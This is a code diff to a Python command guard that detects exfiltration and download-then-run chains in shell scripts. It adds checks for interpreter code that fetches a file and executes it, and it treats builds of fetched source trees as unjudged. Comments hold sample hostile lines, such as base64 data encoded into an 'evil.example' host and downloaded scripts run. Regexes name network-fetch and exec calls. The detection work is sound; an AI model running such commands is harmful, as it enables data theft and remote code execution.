@@ -414,10 +414,19 @@ _BASE64_LABEL = lazy_compile(r"^(?:[a-z][\w+.-]*://)?[A-Za-z0-9+]{6,}={1,2}\.[A-
 """A host name whose first label ends in base64 padding: no DNS name has ``=``, encoded data does."""
 
 
+_BODY_OPTIONS = frozenset({"-d", "--data", "--data-raw", "--data-binary", "--data-ascii", "--data-urlencode",
+                           "--json", "-F", "--form", "--form-string", "-H", "--header", "-b", "--cookie",
+                           "--post-data", "--body-data"})  # fmt: skip
+"""Options whose value is a request's body or header, never a name resolved (``-d 'hostname=.0.0'``)."""
+
+
 def _encoded_host(invocation: Invocation) -> Verdict | None:
     """``curl MTExLTEx=.evil.example``: base64 data spelled into a host name."""
+    previous = ""
     for value in _values(invocation):
-        if _BASE64_LABEL.match(value):
+        in_body = previous in _BODY_OPTIONS or value.split("=", 1)[0] in _BODY_OPTIONS
+        previous = value
+        if not in_body and _BASE64_LABEL.match(value):
             return _verdict(EXFILTRATION, invocation, "spells base64 data into a host name")
     return None
 
@@ -747,7 +756,36 @@ def _download(invocation: Invocation) -> _Download | None:
         positionals = [v for v in values if not v.startswith("-")]
         if len(positionals) >= 2:
             return _Download((), True)
+    if INTERPRETERS.match(name):
+        written = _fetched_into(inline_code(invocation) or "")
+        return _Download(written, False) if written else None
     return None
+
+
+_WRITES_FILE = lazy_compile(
+    r"""(\bopen|File\.(?:write|binwrite|open)|writeFileSync|file_put_contents)\s*\(\s*(["'])([^"'\n]{1,4095})\2"""
+    r"""(\s*,\s*(?:mode\s*=\s*)?["'](?:[wax]b?\+?|\+?[wax]b?)["'])?"""
+    r"""|\b(?:urlretrieve|getstore|mirror)\s*\([^,()]{1,400},\s*(["'])([^"'\n]{1,4095})\5"""
+)
+"""Where code writes a file: ``open('/tmp/x', 'w')``, ``File.write('/tmp/x', …)``, ``urlretrieve(URL, x)``."""
+
+
+def _fetched_into(code: str) -> tuple[str, ...]:
+    """The files code writes when it also fetches from the network (``urllib3 ... open('/tmp/b.py',
+    'w').write(r.data)``, Ruby's ``Net::HTTP`` then ``File.write``): a download made by an interpreter."""
+    if (
+        not code
+        or not _FETCH_CODE.search(code)
+        or not re.search(r"https?://|\$url|url\b", code, re.IGNORECASE)
+    ):
+        return ()
+    written = []
+    for match in _WRITES_FILE.finditer(code):
+        if match.group(6):
+            written.append(match.group(6))
+        elif match.group(4) or match.group(1) not in ("open", "File.open"):  # open(PATH) alone reads
+            written.append(match.group(3))
+    return tuple(dict.fromkeys(written))
 
 
 def _in_path_dir(path: str, home: str) -> bool:
@@ -760,7 +798,7 @@ def _in_path_dir(path: str, home: str) -> bool:
 _FETCH_CODE = lazy_compile(
     r"urlopen|urllib|requests\.get|httpx\.get|LWP|get\(\s*[\"']https?:|URI\.open|open-uri|Net::HTTP|"
     r"fetch\(|file_get_contents\(\s*[\"']https?:|\biwr\b|Invoke-WebRequest|Invoke-RestMethod|\birm\b|"
-    r"DownloadString|DownloadFile|Net\.WebClient|https?\.get\(|curl_exec",
+    r"DownloadString|DownloadFile|Net\.WebClient|https?\.get\(|curl_exec|\bgetstore\s*\(",
     re.IGNORECASE,
 )
 _EVAL_CODE = lazy_compile(
@@ -811,7 +849,18 @@ def _fetch_and_eval(invocation: Invocation) -> Verdict | None:
         and (_EVAL_CODE.search(code))
     ):
         return _verdict(DOWNLOAD_RUN, invocation, "fetches code from the network and evaluates it")
+    for path in _fetched_into(code or ""):
+        if re.search(_RUN_CALL + r"[^;\n]{0,300}?" + re.escape(path), code or ""):
+            why = f"fetches a file from the network into {path} and runs it"
+            return _verdict(DOWNLOAD_RUN, invocation, why)
     return None
+
+
+_RUN_CALL = (
+    r"(?:os\.system|os\.popen|os\.exec\w*|os\.spawn\w*|subprocess\.\w+|Popen|\bsystem|\bexec\w*|"
+    r"\bspawn\w*|execSync|shell_exec|passthru|\bload|require|`|%x)"
+)
+"""A call that runs a program or loads a file of code (the file named after it is run)."""
 
 
 def _package_from_url(invocation: Invocation) -> Verdict | None:
@@ -887,6 +936,19 @@ def _interpreter_file(invocation: Invocation) -> str | None:
             continue
         return value
     return None
+
+
+_BUILD_SCRIPTS = frozenset({"configure", "Configure", "config", "autogen.sh", "setup.py"})
+"""A source tree's build entry points (autotools, Perl's and OpenSSL's Configure, setuptools): run
+from a fetched tree, they build it (asked); any other file of it run is the download run (blocked)."""
+
+
+def _builds(word: str, invocation: Invocation, tracker: _Tracker) -> bool:
+    """``cd kit && ./configure``: a build entry point of a fetched tree (a file downloaded on its
+    own, ``curl -O URL/setup.py && python3 setup.py``, is the download run)."""
+    return (
+        posixpath.basename(word) in _BUILD_SCRIPTS and tracker.path(word, invocation.cwd) not in tracker.files
+    )
 
 
 def _runs(invocation: Invocation) -> list[tuple[str, str]]:
@@ -1092,8 +1154,16 @@ class _Tracker:
 
 
 def judge_script(script: Script, home: str) -> Verdict | None:
-    """A finding that spans statements (downloaded, then run; read, then piped away), or None."""
-    return next(_follow(script, home, _Tracker(home)), None)
+    """A finding that spans statements (downloaded, then run; read, then piped away), or None.
+
+    A build of a fetched tree (:data:`UNJUDGED_SCRIPT`) is the weakest finding: what the line does
+    after it is still looked at (``make && ./payload`` runs a download)."""
+    build = None
+    for verdict in _follow(script, home, _Tracker(home)):
+        if verdict.category != UNJUDGED_SCRIPT:
+            return verdict
+        build = build or verdict
+    return build
 
 
 def download_chain(script: Script, home: str) -> set[int]:
@@ -1332,24 +1402,31 @@ def _run_of_download(invocation: Invocation, tracker: _Tracker) -> Verdict | Non
     decoded = derived(invocation)
     if tracker.empty and (decoded is None or not decoded.decodes):
         return None
-    # cd repo && make, make -C repo, npm install, pip install ./repo: the cloned tree's files run.
+    # cd repo && make, make -C repo, npm install, pip install ./repo: the fetched tree is built. A
+    # build of source fetched by this line is asked, as a clone built in a later call is
+    # (:mod:`..clones`): source is how software is installed, and what the build runs is unseen.
     for run in planned(invocation.replace(cwd=invocation.cwd or ".")):  # ".": make -C repo stays relative
         where = posixpath.join(run.cwd, run.word) if run.cwd not in (None, ".") else run.word
         source = tracker.downloaded(where, invocation.cwd) if not run.how and run.word != STDIN else None
         if source is not None:
-            why = f"runs the {run.language} file {run.word} of what was {source} earlier in the command"
-            return _verdict(DOWNLOAD_RUN, invocation, why)
+            why = (
+                f"builds with the {run.language} file {run.word} of what was {source} earlier in the command"
+            )
+            return _verdict(UNJUDGED_SCRIPT, invocation, f"{why}, code the guard cannot see")
     for word in runs_code_in(invocation):  # cd repo && pytest, cargo build, go generate: its code runs
         source = tracker.downloaded(word, invocation.cwd or ".")
         if source is not None:
-            why = f"runs the code of {word}, {source} earlier in the command, with {invocation.name}"
-            return _verdict(DOWNLOAD_RUN, invocation, why)
+            why = f"builds {word}, {source} earlier in the command, with {invocation.name}"
+            return _verdict(UNJUDGED_SCRIPT, invocation, f"{why}: code the guard cannot see")
     for word, how in _runs(invocation):
         by = tracker.downloaded(word, invocation.cwd, program=how == "runs")
         if by is None and how in ("runs", "runs the script", "makes executable"):
             by = tracker.flat(word, invocation.cwd, program=how == "runs")
         if by is not None and by.startswith(_CLONED) and invocation.name in _REGISTRY_INSTALLERS:
             continue  # pip install -r repo/requirements.txt: the registry's packages (the project's: planned)
+        if by is not None and how in ("runs", "runs the script") and _builds(word, invocation, tracker):
+            why = f"builds with {word}, {by} earlier in the command: code the guard cannot see"
+            return _verdict(UNJUDGED_SCRIPT, invocation, why)
         if by is not None:
             return _verdict(DOWNLOAD_RUN, invocation, f"{how} {word}, {by} earlier in the command")
     for source, destination in _moves(invocation):
